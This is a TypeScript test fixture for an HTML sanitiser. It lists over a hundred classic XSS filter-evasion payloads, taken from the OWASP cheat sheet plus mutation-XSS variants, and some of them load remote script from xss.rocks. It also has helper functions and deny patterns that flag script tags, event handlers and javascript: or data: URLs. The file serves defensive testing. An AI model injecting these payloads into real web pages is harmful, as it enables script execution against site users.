/**
 * Classic payloads of the OWASP XSS filter evasion cheat sheet (and a few mutation-XSS ones).
 * Whatever goes in, what comes out has no script element, no event handler attribute and no
 * javascript:, vbscript: or data:text/html URL in any attribute, read as a browser would.
 */
// prettier-ignore
export const XSS_PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>',
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=http://xss.rocks/xss.js?< B >',
  '<SCRIPT SRC=//xss.rocks/.j>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script>alert(1)</script',
  '<ScRiPt >alert(1)</sCrIpT >',
  '</script><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)">',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<IMG SRC=javascript:alert(\'XSS\')>',
  '<IMG SRC=JaVaScRiPt:alert(\'XSS\')>',
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC= onmouseover="alert(\'xxs\')">',
  '<IMG onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<IMG SRC="jav\tascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0D;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<IMG SRC="java\0script:alert(\'XSS\')">',
  '<IMG DYNSRC="javascript:alert(\'XSS\')">',
  '<IMG LOWSRC="javascript:alert(\'XSS\')">',
  '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">',
  '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<BODY ONLOAD=alert(\'XSS\')>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jAvAsCrIpT:alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '<a href="&#106avascript:alert(1)">x</a>',
  '<a href="javas&#99;ript:alert(1)">x</a>',
  '<a href="\x01javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="VBScript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="DaTa:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href=javascript:alert(1)>x</a>',
  '<a href="javascript:alert(1)" onmouseover="alert(2)">x</a>',
  '<a href="https://ok.example/" onclick="alert(1)">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src=http://xss.rocks/scriptlet.html <',
  '<div srcdoc="<script>alert(1)</script>">x</div>',
  '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
  '<object data="javascript:alert(1)"></object>',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  '<embed src="javascript:alert(1)">',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+" type="image/svg+xml"></EMBED>',
  '<style>@import \'http://xss.rocks/xss.css\';</style>',
  '<STYLE>@im\\port\'\\ja\\vasc\\ript:alert("XSS")\';</STYLE>',
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  '<BASE HREF="javascript:alert(\'XSS\');//">',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
  '<TABLE><TD BACKGROUND="javascript:alert(\'XSS\')">',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
  '<DIV STYLE="background-image:\\0075\\0072\\006C\\0028\'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029\'\\0029">',
  '<DIV STYLE="width: expression(alert(\'XSS\'));">',
  '<p style="color: red; behavior: url(xss.htc)">x</p>',
  '<span style="-moz-binding: url(http://xss.rocks/xssmoz.xml#xss)">x</span>',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<form><button formaction=javascript:alert(1)>x</button></form>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<XSS STYLE="behavior: url(xss.htc);">',
  '<xss onafterscriptexecute=alert(1)><script>1</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<textarea><script>alert(1)</script></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<p title="a" onclick = "alert(1)">x</p>',
  '<p\nonclick=alert(1)>x</p>',
  '<p/onclick=alert(1)>x</p>',
  '<img src="/ok.png" alt="&quot; onerror=&quot;alert(1)">',
  '<img src="/ok.png" alt=\'" onerror="alert(1)\'>',
  '"><script>alert(1)</script>',
  '\'><img src=x onerror=alert(1)>',
  '<a href="#" title="x" style="x:expression(alert(1))">x</a>',
  '<a href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">x</a>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
];

/** The tags that really are tags in the output (escaped text such as &lt;script&gt; is not). */
const tagsOf = (html: string) => [...html.matchAll(/<\/?([a-zA-Z][^\s/>]*)([^>]*)>/g)];

/** Attribute values as a browser reads them: entities decoded, spaces and control chars gone. */
function attributeValues(attrs: string): { name: string; value: string }[] {
  return [
    ...attrs.matchAll(/([^\s"'>/=]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'=<>`]+)))?/g),
  ].map((m) => ({
    name: m[1]!.toLowerCase(),
    value: (m[2] ?? m[3] ?? m[4] ?? '')
      .replace(/&#x([0-9a-f]+);?/gi, (_, h: string) => String.fromCodePoint(parseInt(h, 16)))
      .replace(/&#(\d+);?/g, (_, d: string) => String.fromCodePoint(Number(d)))
      .replace(/&colon;?/gi, ':')
      .replace(/&tab;?|&newline;?/gi, '')
      // eslint-disable-next-line no-control-regex
      .replace(/[\u0000-\u0020\u007f-\u009f]/g, '')
      .toLowerCase(),
  }));
}

// prettier-ignore
const FORBIDDEN_TAGS = new Set([
  'script', 'iframe', 'object', 'embed', 'svg', 'math', 'style', 'link', 'meta', 'base', 'form',
  'frame', 'frameset',
]);
const FORBIDDEN_ATTRIBUTES = new Set([
  'srcdoc',
  'formaction',
  'action',
  'background',
  'dynsrc',
  'lowsrc',
  'xlink:href',
]);
const FORBIDDEN_VALUE =
  /(?:java|vb)script:|data:text\/html|data:image\/svg|expression\(|url\(|behavior|binding/;

/**
 * What makes sanitised HTML unsafe, empty when nothing: a script tag, another active element, an
 * event handler, or a script URL in any attribute.
 */
export function xssProblems(html: string): string[] {
  const problems: string[] = [];
  if (/<\s*script/i.test(html)) problems.push('script tag');
  for (const [whole, name, attrs] of tagsOf(html)) {
    if (FORBIDDEN_TAGS.has(name!.toLowerCase())) problems.push(`tag ${whole}`);
    for (const a of attributeValues(attrs ?? '')) {
      if (a.name.startsWith('on')) problems.push(`event handler in ${whole}`);
      if (FORBIDDEN_ATTRIBUTES.has(a.name)) problems.push(`attribute ${a.name} in ${whole}`);
      if (FORBIDDEN_VALUE.test(a.value)) problems.push(`unsafe value in ${whole}`);
    }
  }
  return problems;
}

/** Whether every tag opened is closed, in order (void tags excepted). */
export function isBalanced(html: string): boolean {
  const stack: string[] = [];
  for (const [whole, name] of tagsOf(html)) {
    const tag = name!.toLowerCase();
    if (['br', 'hr', 'img', 'col'].includes(tag)) continue;
    if (!whole.startsWith('</')) stack.push(tag);
    else if (stack.pop() !== tag) return false;
  }
  return stack.length === 0;
}
